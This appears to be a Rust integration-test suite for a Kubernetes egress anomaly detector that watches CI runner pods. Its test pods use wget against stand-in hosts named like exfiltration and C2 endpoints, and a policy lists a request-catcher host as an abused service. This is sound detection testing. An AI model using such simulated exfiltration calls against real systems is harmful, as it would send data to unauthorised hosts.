//! runwarden on a real node: the operator as a Deployment and the agent as the operator's
//! DaemonSet, from the images `make images` builds, on the harness's single-node cluster
//! (kubelet, containerd, runc, kube-proxy). Runner pods are real containers with ARC's labels and
//! an `EphemeralRunner` owner (ARC's CRDs as ARC generates them) whose status the test fills in
//! as ARC's listener would; they resolve names through the test's DNS server and call its
//! listeners on the node's bridge.
//!
//! Needs root and `make setup images` (`make test` does both).

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use k8s_openapi::api::core::v1::Pod;
use k8s_openapi::api::events::v1::Event;
use kube::ResourceExt;
use kube::api::{Api, DeleteParams, ListParams, PostParams};
use runwarden_tests::Node;
use runwarden_tests::install::{SYSTEM, kubectl, kubectl_stdin, list_notifier_secrets};
use runwarden_tests::node::{NODE_IP, NODE_NAME, cgroup_programs, runwarden_programs};
use runwarden_tests::runner::{Job, agent_logs, url, wait_controllers};
use runwarden_tests::services::{Dns, HttpSink, Listener};
use serde_json::json;
use tokio::sync::OnceCell;

/// The hosts runner pods call: the job's usual ones (on 443, see `runner::port`), and one it
/// never called, on a non-standard port. (A new host on 443 in a baseline younger than the
/// detector's `min_runs` scores Low, below the default Medium: the detector issue's "young
/// baseline" case.)
const HOSTS: [&str; 4] = ["api.github.test", "cdn.packages.test", "new.exfil.test", "mirror.pr.test"];

/// What the tests share: the node with runwarden installed, the DNS server and the listeners.
struct World {
    node: &'static Node,
    dns: Dns,
    /// name → listener, for the hosts runner pods call.
    hosts: Vec<(String, Listener)>,
}

impl World {
    fn host(&self, name: &str) -> &Listener {
        &self.hosts.iter().find(|(n, _)| n == name).unwrap_or_else(|| panic!("no host {name}")).1
    }
}

/// Installs runwarden once per test binary, as a user would with kubectl.
async fn world() -> &'static World {
    static WORLD: OnceCell<World> = OnceCell::const_new();
    WORLD
        .get_or_init(|| async {
            assert_eq!(unsafe_geteuid(), 0, "the real-node tests need root (a kubelet, containerd, eBPF)");
            let node = tokio::task::spawn_blocking(Node::shared).await.unwrap();
            let dns = Dns::start(SocketAddr::from((NODE_IP, 53))).expect("serving DNS on the node's address");
            print_dns_on_failure(dns.clone());
            let mut hosts = Vec::new();
            for (i, name) in HOSTS.into_iter().enumerate() {
                let port = runwarden_tests::runner::port(name);
                let ip = node.add_address(200 + i as u8).unwrap();
                dns.insert(name, ip);
                hosts.push((name.to_string(), Listener::start(SocketAddr::from((ip, port))).unwrap()));
            }

            // With the run pages on, as `make demo` installs it, and ready for an Ingress at
            // PAGES, which Events and notifications link to.
            let ui = [
                "--set",
                "operator.ui.enabled=true",
                "--set",
                "operator.ui.tokenAuth=true",
                "--set",
                &format!("operator.ui.url={PAGES}"),
            ];
            runwarden_tests::install::runwarden_with(node, &ui).await;
            World { node, dns, hosts }
        })
        .await
}

/// Where users reach the run pages (an Ingress host; the test reaches them by port-forward).
const PAGES: &str = "https://runwarden.example";

/// `kubectl port-forward` to the operator's run pages, as a user runs it; stopped when dropped.
struct PortForward {
    port: u16,
    child: std::process::Child,
}

impl PortForward {
    fn start(node: &Node) -> Self {
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let child = node
            .kubectl()
            .args(["-n", SYSTEM, "port-forward", "deploy/runwarden-operator", &format!("{port}:8090")])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let forward = Self { port, child };
        // Ready once a page answers.
        let started = Instant::now();
        while forward.get("/").0 != 200 && started.elapsed() < Duration::from_secs(20) {
            std::thread::sleep(Duration::from_millis(200));
        }
        forward
    }

    /// Status and body of `path` (0 when nothing answers).
    fn get(&self, path: &str) -> (u16, String) {
        use std::io::{Read, Write};
        let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", self.port)) else { return (0, String::new()) };
        let _ = write!(stream, "GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
        let mut response = String::new();
        let _ = stream.read_to_string(&mut response);
        let status = response.split_whitespace().nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
        (status, response)
    }

    /// The page at `path` as headless Chromium renders it (its DOM), and a screenshot of it.
    fn browse(&self, path: &str, screenshot: &std::path::Path) -> String {
        let url = format!("http://127.0.0.1:{}{path}", self.port);
        let chromium = |args: &[&str]| {
            std::process::Command::new("chromium")
                .args(["--headless", "--no-sandbox", "--disable-gpu", "--window-size=1280,1000"])
                .args(args)
                .arg(&url)
                .output()
                .expect("chromium (`make setup` installs it)")
        };
        let shot = chromium(&[&format!("--screenshot={}", screenshot.display())]);
        assert!(shot.status.success(), "chromium --screenshot: {}", String::from_utf8_lossy(&shot.stderr));
        String::from_utf8_lossy(&chromium(&["--dump-dom"]).stdout).into_owned()
    }
}

impl Drop for PortForward {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A failing test prints the DNS server's recent queries (once): a runner's lookup that fails
/// shows only as a call that never happened, and its queries say why.
fn print_dns_on_failure(dns: Dns) {
    let printed = std::sync::atomic::AtomicBool::new(false);
    let default = std::panic::take_hook();
    std::panic::set_hook(Box::new(move |info| {
        default(info);
        if !printed.swap(true, std::sync::atomic::Ordering::Relaxed) {
            eprintln!("the test DNS server's last queries:\n{}", dns.recent());
        }
    }));
}

fn unsafe_geteuid() -> u32 {
    #[allow(unsafe_code)] // geteuid has no preconditions.
    // SAFETY: geteuid only reads the caller's credentials.
    unsafe {
        libc::geteuid()
    }
}

fn regarding(e: &Event) -> (String, String) {
    let r = e.regarding.clone().unwrap_or_default();
    (r.kind.unwrap_or_default(), r.name.unwrap_or_default())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_agent_runs_ready_with_named_capabilities_and_belongs_to_the_operators_deployment() {
    let world = world().await;
    let _shared = API_OUTAGE.read().await;
    let client = world.node.client().await;
    let ds = Api::<k8s_openapi::api::apps::v1::DaemonSet>::namespaced(client.clone(), SYSTEM)
        .get("runwarden-agent")
        .await
        .unwrap();
    let owner = ds.metadata.owner_references.clone().unwrap_or_default();
    assert!(
        owner.iter().any(|o| o.kind == "Deployment" && o.name == "runwarden-operator"),
        "the operator, under its shipped RBAC, makes its Deployment the DaemonSet's owner (uninstalling it removes the agent): {owner:?}"
    );
    // The agent pod is ready and never restarted (not even through the other tests' API outage).
    let pods = Api::<Pod>::namespaced(client, SYSTEM)
        .list(&kube::api::ListParams::default().labels("app.kubernetes.io/component=agent"))
        .await
        .unwrap()
        .items;
    let statuses = pods[0].status.clone().unwrap().container_statuses.unwrap_or_default();
    assert!(statuses[0].ready && statuses[0].restart_count == 0, "{statuses:?}");
    let spec = ds.spec.unwrap().template.spec.unwrap();
    let security = spec.containers[0].security_context.clone().unwrap();
    assert_eq!(security.privileged, Some(false));
    let added = security.capabilities.unwrap().add.unwrap_or_default();
    assert_eq!(added, ["BPF", "PERFMON", "NET_ADMIN"], "named capabilities only");
}

/// `GET http://addr/metrics`, the body.
fn scrape(addr: &str) -> String {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(addr).unwrap_or_else(|e| panic!("connecting to {addr}: {e}"));
    s.write_all(b"GET /metrics HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n").unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).unwrap();
    out
}

/// The agent's metrics, scraped from its pod.
async fn agent_metrics(node: &Node) -> String {
    let agents = Api::<Pod>::namespaced(node.client().await, SYSTEM);
    let selector = kube::api::ListParams::default().labels("app.kubernetes.io/component=agent");
    let pod = agents.list(&selector).await.unwrap().items.into_iter().next().expect("an agent pod");
    let ip = pod.status.and_then(|s| s.pod_ip).expect("a running pod has an IP");
    tokio::task::spawn_blocking(move || scrape(&format!("{ip}:9090"))).await.unwrap()
}

/// The value of one series in `metrics`.
fn series(metrics: &str, name: &str) -> f64 {
    metrics
        .lines()
        .find_map(|l| l.strip_prefix(name).and_then(|v| v.trim().parse().ok()))
        .unwrap_or_else(|| panic!("{name} not exported"))
}

/// A pod's cgroup on the test node (cgroupfs driver: `kubepods[/<qos>]/pod<uid>`).
fn pod_cgroup(uid: &str) -> std::path::PathBuf {
    let root = runwarden_tests::node::cgroup2();
    ["", "burstable", "besteffort"]
        .iter()
        .map(|qos| root.join("kubepods").join(qos).join(format!("pod{uid}")))
        .find(|d| d.is_dir())
        .unwrap_or_else(|| panic!("no cgroup for pod {uid}"))
}

/// Runs a shell script in a pod's first container.
fn exec(node: &Node, ns: &str, pod: &str, script: &str) {
    kubectl(node, &["-n", ns, "exec", pod, "--", "sh", "-c", script]);
}

/// Pods made while the agent ran whose cgroup held a process before the agent attached its
/// programs (their first calls may have gone unseen).
async fn armed_late(node: &Node) -> f64 {
    series(&agent_metrics(node).await, "runwarden_agent_pods_armed_late_total")
}

/// The `runwarden_*` series names an expression uses.
fn series_in(expr: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = expr;
    while let Some(i) = rest.find("runwarden_") {
        let name: String =
            rest[i..].chars().take_while(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || *c == '_').collect();
        rest = &rest[i + name.len()..];
        out.push(name);
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_series_the_alerts_and_the_dashboard_use_is_exported() {
    let world = world().await;
    let _shared = API_OUTAGE.read().await;
    let pods = Api::<Pod>::namespaced(world.node.client().await, SYSTEM).list(&Default::default()).await.unwrap().items;
    let mut exported = std::collections::HashSet::new();
    for pod in &pods {
        let labels = pod.metadata.labels.clone().unwrap_or_default();
        let port = match labels.get("app.kubernetes.io/component").map(String::as_str) {
            Some("operator") => 8080,
            Some("agent") => 9090,
            _ => continue,
        };
        let ip = pod.status.as_ref().and_then(|s| s.pod_ip.clone()).expect("a running pod has an IP");
        for line in scrape(&format!("{ip}:{port}")).lines() {
            if let Some(name) = line.strip_prefix("# TYPE ").and_then(|l| l.split_whitespace().next()) {
                for suffix in ["", "_total", "_bucket", "_sum", "_count", "_created"] {
                    exported.insert(format!("{name}{suffix}"));
                }
            }
        }
    }
    assert!(
        exported.contains("runwarden_agent_anomalies_total") && exported.contains("runwarden_operator_leader"),
        "{exported:?}"
    );

    let chart = runwarden_tests::cluster::crd_dir().join("../charts/runwarden/files");
    let alerts: serde_yaml::Value =
        serde_yaml::from_str(&std::fs::read_to_string(chart.join("alerts.yaml")).unwrap()).unwrap();
    let mut exprs: Vec<String> = Vec::new();
    for group in alerts["groups"].as_sequence().unwrap() {
        for rule in group["rules"].as_sequence().unwrap() {
            exprs.push(rule["expr"].as_str().unwrap().to_string());
        }
    }
    let alert_count = exprs.len();
    let dashboard: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(chart.join("dashboard.json")).unwrap()).unwrap();
    for panel in dashboard["panels"].as_array().unwrap() {
        for target in panel["targets"].as_array().unwrap() {
            exprs.push(target["expr"].as_str().unwrap().to_string());
        }
    }
    assert!(alert_count >= 8 && exprs.len() > alert_count + 10, "{exprs:?}");
    for expr in &exprs {
        let used = series_in(expr);
        assert!(!used.is_empty(), "every expression uses a runwarden series: {expr}");
        for name in used {
            assert!(exported.contains(&name), "{name} (in {expr}) is not exported by the operator or the agent");
        }
    }
}

/// Tests run side by side (runner pods of different jobs on one node) except the one that stops
/// the API server: it runs alone.
static API_OUTAGE: tokio::sync::RwLock<()> = tokio::sync::RwLock::const_new(());

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_learns_its_hosts_then_a_new_host_raises_events_on_pod_runner_and_baseline() {
    let world = world().await;
    let _shared = API_OUTAGE.read().await;
    let job = Job::new(world.node, "web").await;

    // A pod on the same node that is not a runner calls the same hosts: nothing is reported.
    let client = world.node.client().await;
    let other: Pod = serde_json::from_value(json!({
        "metadata": {"name": "web-server"},
        "spec": {"nodeName": NODE_NAME, "restartPolicy": "Never", "automountServiceAccountToken": false,
                 "containers": [{"name": "web", "image": "localhost/runwarden/test-busybox:1", "imagePullPolicy": "Never",
                                 "command": ["sh", "-c", format!("wget -q -O /dev/null {} && wget -q -O /dev/null {}; sleep 3600",
                                     url("cdn.packages.test"), url("new.exfil.test"))]}]}
    }))
    .unwrap();
    Api::<Pod>::namespaced(client.clone(), &job.ns).create(&PostParams::default(), &other).await.unwrap();

    // Five runs calling the same hosts: the baseline learns them, nothing is raised.
    for run in 1..=5 {
        job.run(world.node, 100 + run, "api.github.test", &["cdn.packages.test"]).await;
        job.wait_merged(world.node, 100 + run).await;
    }
    assert!(world.host("api.github.test").count() >= 5 && world.host("cdn.packages.test").count() >= 5);
    assert!(world.dns.queries.load(std::sync::atomic::Ordering::Relaxed) >= 10, "pods resolve through the test DNS");
    let quiet = job.anomaly_events(world.node).await;
    assert!(quiet.is_empty(), "runs calling the learned hosts raise nothing: {quiet:?}");

    // The security team wants a webhook: a policy for the job with a notifier, applied as a
    // user would; the receiver listens on the node's address. It also knows exfil.test for a
    // request catcher (the built-in abused-service lists, extended by the policy).
    let sink = HttpSink::start(SocketAddr::from((NODE_IP, 9311))).unwrap();
    let manifest = json!({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "siem-hook"},
         "stringData": {"url": format!("http://{NODE_IP}:9311/hook")}},
        {"apiVersion": "runwarden.dev/v1alpha1", "kind": "EgressPolicy", "metadata": {"name": "audit"},
         "spec": {"selector": {"repositories": ["acme/web"]}, "anomalyDetection": {"notifiers": [
             {"name": "siem", "webhook": {"urlSecretRef": {"name": "siem-hook", "key": "url"}}}],
             "abusedServices": {"add": [{"host": "exfil.test", "category": "RequestCatcher"}]}}}}
    ]})
    .to_string();
    // The operator reads only the Secrets the release lists: the team lists its hook's.
    list_notifier_secrets(world.node, &job.ns, &["siem-hook"]);
    kubectl_stdin(world.node, &["-n", &job.ns, "apply", "-f", "-"], &manifest);

    // Run 6 calls a host the job never called.
    let runner = job.run(world.node, 106, "api.github.test", &["cdn.packages.test", "new.exfil.test"]).await;
    let baseline = job.wait_merged(world.node, 106).await;
    let events = job.anomaly_events(world.node).await;
    let on = |kind: &str, name: &str| events.iter().filter(|e| regarding(e) == (kind.into(), name.into())).count();
    assert_eq!(on("Pod", &runner), 1, "one Event on the runner pod: {events:?}");
    assert_eq!(on("EphemeralRunner", &runner), 1, "one on its EphemeralRunner: {events:?}");
    assert_eq!(on("WorkflowBaseline", &baseline.name_any()), 1, "one on the baseline: {events:?}");
    assert_eq!(events.len(), 3, "and nothing else, nothing about the web server: {events:?}");
    // The web server, not a runner, pays nothing: none of the programs runs for its sockets.
    let web = Api::<Pod>::namespaced(client.clone(), &job.ns).get("web-server").await.unwrap();
    assert_eq!(cgroup_programs(&pod_cgroup(&web.uid().unwrap())), []);
    // Each runner pod's first instruction resolves a name (its init container calls
    // api.github.test): every pod was armed before a process started in it.
    assert_eq!(armed_late(world.node).await, 0.0, "pods armed after a process started in them");
    let note = events[0].note.clone().unwrap_or_default();
    assert!(note.contains("new.exfil.test"), "the Event names the new host: {note}");
    assert!(note.contains("wget"), "and the process that called it: {note}");
    let run_page = format!("{PAGES}/runs/{}/{}", job.ns, runwarden_crds::run::record_name("106", &runner));
    assert!(note.ends_with(&format!(" Run page: {run_page}")), "and links to the run's page: {note}");

    // The operator sent the report to the webhook, with how to approve the host.
    let started = Instant::now();
    while sink.received().is_empty() && started.elapsed() < Duration::from_secs(30) {
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let received = sink.received();
    assert_eq!(received.len(), 1, "one report for the one new host: {received:?}");
    let body: serde_json::Value = serde_json::from_slice(&received[0].body).unwrap();
    assert_eq!(body["report"]["host"], "new.exfil.test", "{body}");
    assert_eq!(body["report"]["runId"], "106", "{body}");
    // Under the policy's abused services: High, whatever the young baseline excuses.
    assert_eq!(body["report"]["severity"], "high", "{body}");
    assert!(body["report"]["reasons"][0].as_str().unwrap().contains("request catcher"), "{body}");
    assert!(body["approve"]["command"].as_str().unwrap().contains("patch workflowbaseline"), "{body}");
    assert_eq!(body["links"]["run"], run_page.as_str(), "{body}");

    let status = baseline.status.unwrap();
    assert_eq!(status.observed_runs, 6, "{status:?}");
    let last = status.recent_runs.iter().find(|r| r.run_id == "106").unwrap();
    assert!(last.anomalies.iter().any(|a| a.endpoint.starts_with("new.exfil.test:8080")), "{last:?}");
    // api, cdn, new and the DNS server; nothing of the other job running beside it.
    assert_eq!(last.endpoints, 4, "the run's own calls, none of another job's: {last:?}");
    // The run's record (`kubectl get wfr`): every destination, the new host first, with why.
    let records = Api::<runwarden_crds::WorkflowRun>::namespaced(client.clone(), &job.ns);
    let params = ListParams::default().labels("runwarden.dev/run-id=106");
    let mut found = Vec::new();
    let started = Instant::now();
    while found.is_empty() && started.elapsed() < Duration::from_secs(20) {
        found = records.list(&params).await.unwrap().items;
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let [record] = found.as_slice() else { panic!("one record of run 106: {found:?}") };
    assert_eq!((record.spec.runner.as_str(), record.spec.endpoint_count), (runner.as_str(), 4), "{record:?}");
    assert_eq!(record.spec.policy.as_deref(), Some("audit"), "the policy that applied: {record:?}");
    let first = &record.spec.endpoints[0];
    assert_eq!(first.host.as_deref(), Some("new.exfil.test"), "{record:?}");
    assert_eq!(first.verdict, runwarden_crds::RunVerdict::Anomalous, "{first:?}");
    assert!(first.reasons.iter().any(|r| r.contains("request catcher")), "{first:?}");
    assert!(first.processes.iter().chain(&first.executables).any(|p| p.contains("wget")), "{first:?}");
    // The same run in a browser, through `kubectl port-forward` to the operator as a user
    // reaches it: listed with its anomaly, and on the page the Event and the webhook link to
    // the new host first, with why and how to approve it.
    let node = world.node;
    let path = run_page.strip_prefix(PAGES).unwrap().to_string();
    assert_eq!(path, format!("/runs/{}/{}", job.ns, record.name_any()), "the link is the record's page");
    let shot = std::env::temp_dir().join(format!("runwarden-run-page-{}.png", std::process::id()));
    let shown = shot.clone();
    let (list, page) = tokio::task::spawn_blocking(move || {
        let forward = PortForward::start(node);
        let list = forward.browse("/", &shown.with_extension("list.png"));
        (list, forward.browse(&path, &shown))
    })
    .await
    .unwrap();
    let link = format!("href=\"/runs/{}/{}\"", job.ns, record.name_any());
    let row = list.split("<tr").find(|r| r.contains(&link)).unwrap_or_else(|| panic!("run 106 listed: {list}"));
    assert!(row.contains("class=\"anomalous\""), "{row}");
    let first = page.split("<h3 class=\"anomaly\">").nth(1).unwrap_or_else(|| panic!("an anomaly: {page}"));
    assert!(first.contains("new.exfil.test:8080/TCP") && first.contains("request catcher"), "{first}");
    assert!(page.find("class=\"anomaly\"").unwrap() < page.find("<h2>Destinations").unwrap(), "{page}");
    assert!(first.contains("kubectl runwarden approve"), "the approve snippet: {first}");
    eprintln!("run page screenshot: {}", shot.display());
    // The path an Ingress takes (the chart's Service): without credentials, refused.
    let service =
        kubectl(world.node, &["-n", SYSTEM, "get", "service", "runwarden-ui", "-o", "jsonpath={.spec.clusterIP}"]);
    let refused = tokio::task::spawn_blocking(move || {
        use std::io::{Read, Write};
        let mut stream = std::net::TcpStream::connect((service.trim(), 8090)).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        write!(stream, "GET / HTTP/1.1\r\nHost: runwarden.example\r\nConnection: close\r\n\r\n").unwrap();
        let mut response = String::new();
        let _ = stream.read_to_string(&mut response);
        response
    })
    .await
    .unwrap();
    assert!(refused.starts_with("HTTP/1.1 401"), "a request without a token through the Service: {refused}");

    // Run 107 is a pull request (its workflow from refs/pull/7/merge): the young baseline
    // excuses nothing it calls, and what it calls is not learned as normal for the job.
    job.from_ref("refs/pull/7/merge")
        .run(world.node, 107, "api.github.test", &["cdn.packages.test", "mirror.pr.test"])
        .await;
    let status = job.wait_merged(world.node, 107).await.status.unwrap();
    let pr = status.endpoints.iter().find(|e| e.host.as_deref() == Some("mirror.pr.test")).expect("recorded");
    assert_eq!(pr.state, runwarden_crds::baseline::EndpointState::Untrusted, "{pr:?}");
    let started = Instant::now();
    while sink.received().len() < 2 && started.elapsed() < Duration::from_secs(30) {
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let received = sink.received();
    let body: serde_json::Value = serde_json::from_slice(&received.last().unwrap().body).unwrap();
    assert_eq!(body["report"]["host"], "mirror.pr.test", "{body}");
    let reasons = body["report"]["reasons"].to_string();
    assert!(reasons.contains("untrusted ref (refs/pull/7/merge)"), "{reasons}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn killing_the_agent_and_stopping_the_api_server_mid_run_loses_nothing() {
    let world = world().await;
    let _alone = API_OUTAGE.write().await;
    let job = Job::new(world.node, "api").await;
    let client = world.node.client().await;
    let mut listeners = Vec::new();
    for (i, host) in ["c2.outage.test", "late.outage.test"].into_iter().enumerate() {
        let ip = world.node.add_address(210 + i as u8).unwrap();
        world.dns.insert(host, ip);
        listeners.push(Listener::start(SocketAddr::from((ip, 8080))).unwrap());
    }
    let exec = |name: &str, script: &str| exec(world.node, &job.ns, name, script);
    let wget = |host: &str| format!("wget -q -O /dev/null {}", url(host));

    let name = job.start(world.node, 201, "api.github.test", "sleep 3600").await;
    job.wait_phase(world.node, &name, "Running").await;
    exec(&name, &wget("cdn.packages.test"));

    // The agent's pod is killed; its DaemonSet brings it back and it resumes the run from its
    // state directory (a hostPath).
    let agents: Api<Pod> = Api::namespaced(client.clone(), SYSTEM);
    let selector = kube::api::ListParams::default().labels("app.kubernetes.io/component=agent");
    let old = agents.list(&selector).await.unwrap().items[0].name_any();
    agents.delete(&old, &DeleteParams::default().grace_period(0)).await.unwrap();
    let killed = Instant::now();
    loop {
        let ready = agents.list(&selector).await.unwrap().items.into_iter().any(|p| {
            p.name_any() != old
                && p.status
                    .and_then(|s| s.conditions)
                    .unwrap_or_default()
                    .iter()
                    .any(|c| c.type_ == "Ready" && c.status == "True")
        });
        if ready {
            break;
        }
        assert!(killed.elapsed() < Duration::from_secs(90), "no new agent pod ready after 90s");
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    eprintln!("agent pod replaced and ready in {:.1}s", killed.elapsed().as_secs_f64());
    // The runner pod was there before this agent started: it armed it at its start, once.
    let runner_uid = Api::<Pod>::namespaced(client.clone(), &job.ns).get(&name).await.unwrap().uid().unwrap();
    assert_eq!(cgroup_programs(&pod_cgroup(&runner_uid)), runwarden_programs());
    // Retried: in full-suite runs a runner's lookup through the test DNS sometimes fails
    // ("bad address"; seen here and in a runner's own command, also before the per-pod attach
    // scheme, at 4c12b49); not understood yet. A lookup that fails makes no call, so the run's
    // record is still checked in full below.
    exec(&name, &format!("for i in 1 2 3; do {} && exit 0; sleep 1; done; exit 1", wget("c2.outage.test")));

    // The API server goes away for 30 s; the pod calls somewhere new meanwhile.
    exec(&name, &format!("(sleep 2; {}) >/dev/null 2>&1 &", wget("late.outage.test")));
    world.node.control_plane.stop_apiserver();
    let outage = Instant::now();
    tokio::time::sleep(Duration::from_secs(30)).await;
    let node = world.node;
    tokio::task::spawn_blocking(move || node.control_plane.start_apiserver()).await.unwrap().unwrap();
    eprintln!("API server back after {:.1}s", outage.elapsed().as_secs_f64());
    assert!(listeners[1].count() >= 1, "the pod called during the outage");

    // The Event for the call made during the outage arrives once the API server is back.
    let started = Instant::now();
    let mut events = Vec::new();
    while started.elapsed() < Duration::from_secs(60) {
        events = job.anomaly_events(world.node).await;
        let on_pod = |host: &str| {
            events
                .iter()
                .any(|e| regarding(e) == ("Pod".into(), name.clone()) && e.note.as_deref().unwrap_or("").contains(host))
        };
        if on_pod("c2.outage.test") && on_pod("late.outage.test") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    for host in ["c2.outage.test", "late.outage.test"] {
        assert!(
            events.iter().any(|e| e.note.as_deref().unwrap_or("").contains(host)),
            "an Event for {host}: {events:?}\n{}",
            agent_logs(world.node)
        );
    }

    // The run ends: everything it called, before and after both interruptions, is in its record.
    job.finish(world.node, &name).await;
    let baseline = job.wait_merged(world.node, 201).await;
    let status = baseline.status.unwrap();
    let run = status.recent_runs.iter().find(|r| r.run_id == "201").unwrap();
    // The DNS server, and a host called in init, before the kill, after it, during the outage.
    assert_eq!(run.endpoints, 5, "{run:?}");
    let hosts: Vec<String> = status.endpoints.iter().filter_map(|e| e.host.clone()).collect();
    for host in ["api.github.test", "cdn.packages.test", "c2.outage.test", "late.outage.test"] {
        assert!(hosts.iter().any(|h| h == host), "{host} in the baseline: {hosts:?}");
    }
    assert_eq!(armed_late(world.node).await, 0.0, "pods armed after a process started in them");
    // The other tests go on once the cluster itself works again.
    wait_controllers(world.node).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_runner_that_ends_before_its_job_is_known_is_reported_under_its_scale_set() {
    let world = world().await;
    let _shared = API_OUTAGE.read().await;
    let job = Job::new(world.node, "early").await;
    let name = job
        .start_with(
            world.node,
            501,
            "api.github.test",
            &format!("wget -q -O /dev/null {}", url("cdn.packages.test")),
            false,
        )
        .await;
    job.wait_phase(world.node, &name, "Succeeded").await;
    job.finish(world.node, &name).await;
    let events: Api<k8s_openapi::api::events::v1::Event> = Api::namespaced(world.node.client().await, &job.ns);
    let started = Instant::now();
    loop {
        let found: Vec<_> = events
            .list(&Default::default())
            .await
            .unwrap()
            .items
            .into_iter()
            .filter(|e| e.reason.as_deref() == Some("UnattributedEgress"))
            .collect();
        if found.len() == 2 {
            let kinds: Vec<(String, String)> = found.iter().map(regarding).collect();
            assert!(
                kinds.contains(&("Pod".into(), name.clone()))
                    && kinds.contains(&("EphemeralRunner".into(), name.clone()))
            );
            let note = found[0].note.clone().unwrap_or_default();
            assert!(note.contains("scale set arc-runner-set"), "{note}");
            assert!(note.contains("api.github.test") && note.contains("cdn.packages.test"), "{note}");
            break;
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "UnattributedEgress Events: {found:?}\n{}",
            agent_logs(world.node)
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    assert!(job.anomaly_events(world.node).await.is_empty(), "nothing scored without a job");
}

/// The cgroup v2 directory of process `pid` (below this machine's unified hierarchy).
fn cgroup_of(pid: u32) -> std::path::PathBuf {
    let cgroup = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
    let path = cgroup.lines().find_map(|l| l.strip_prefix("0::")).expect("the process is in the unified hierarchy");
    let unified = ["/sys/fs/cgroup/unified", "/sys/fs/cgroup"]
        .into_iter()
        .find(|p| std::path::Path::new(p).join("cgroup.procs").exists())
        .unwrap();
    std::path::PathBuf::from(format!("{unified}{path}"))
}

/// The process of this machine whose command line contains `needle`, waiting up to 10 s.
async fn host_pid(needle: &str) -> u32 {
    let started = Instant::now();
    loop {
        for e in std::fs::read_dir("/proc").unwrap().flatten() {
            let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else { continue };
            let cmdline = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
            if pid != std::process::id() && String::from_utf8_lossy(&cmdline).contains(needle) {
                return pid;
            }
        }
        assert!(started.elapsed() < Duration::from_secs(10), "no process with {needle:?}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nested_docker_cgroups_and_container_mode_job_pods_are_the_runners_job() {
    let world = world().await;
    let _shared = API_OUTAGE.read().await;
    let job = Job::new(world.node, "dind").await;
    let client = world.node.client().await;
    let mut listeners = Vec::new();
    for (i, host) in ["nested.dind.test", "jobpod.dind.test", "step.dind.test"].into_iter().enumerate() {
        let ip = world.node.add_address(220 + i as u8).unwrap();
        world.dns.insert(host, ip);
        listeners.push(Listener::start(SocketAddr::from((ip, 8080))).unwrap());
    }
    let name = job.start(world.node, 401, "api.github.test", "sleep 3600").await;
    job.wait_phase(world.node, &name, "Running").await;

    // Docker in Docker: dockerd in the runner pod runs each container in a cgroup of its own
    // below the runner container's (`<container>/docker/<id>`). A process of the pod waits for a
    // file; the test moves it into such a nested cgroup, then lets it call out.
    exec(
        world.node,
        &job.ns,
        &name,
        "(while [ ! -f /tmp/go ]; do sleep 0.1; done; wget -q -O /dev/null http://nested.dind.test:8080/) >/dev/null 2>&1 &",
    );
    let pid = host_pid("nested.dind.test").await;
    let nested = cgroup_of(pid).join("docker/4f1c2a");
    std::fs::create_dir_all(&nested).unwrap();
    std::fs::write(nested.join("cgroup.procs"), pid.to_string()).unwrap();
    kubectl(world.node, &["-n", &job.ns, "exec", &name, "--", "touch", "/tmp/go"]);

    // Kubernetes container mode: the runner runs the job's steps in a pod of their own, labelled
    // with the runner pod's name, made with the runner pod's token (ARC's container hooks).
    let job_pod: Pod = serde_json::from_value(json!({
        "metadata": {"name": format!("{name}-workflow"), "labels": {"runner-pod": name}},
        "spec": {"nodeName": NODE_NAME, "restartPolicy": "Never", "automountServiceAccountToken": false,
                 "containers": [{"name": "job", "image": "localhost/runwarden/test-busybox:1", "imagePullPolicy": "Never",
                                 "command": ["wget", "-q", "-O", "/dev/null", url("jobpod.dind.test")]}]}
    }))
    .unwrap();
    let pods: Api<Pod> = Api::namespaced(client.clone(), &job.ns);
    let as_runner = job.as_runner(world.node, &name).await;
    let hooks: Api<Pod> = Api::namespaced(as_runner.clone(), &job.ns);
    hooks.create(&PostParams::default(), &job_pod).await.unwrap();
    job.wait_phase(world.node, &format!("{name}-workflow"), "Succeeded").await;
    // A container step: the hooks run it in a batch Job labelled with the runner pod's name,
    // whose pod carries no such label.
    let step: k8s_openapi::api::batch::v1::Job = serde_json::from_value(json!({
        "metadata": {"name": format!("{name}-step"), "labels": {"runner-pod": name}},
        "spec": {"backoffLimit": 0, "template": {"spec": {
            "nodeName": NODE_NAME, "restartPolicy": "Never", "automountServiceAccountToken": false,
            "containers": [{"name": "step", "image": "localhost/runwarden/test-busybox:1", "imagePullPolicy": "Never",
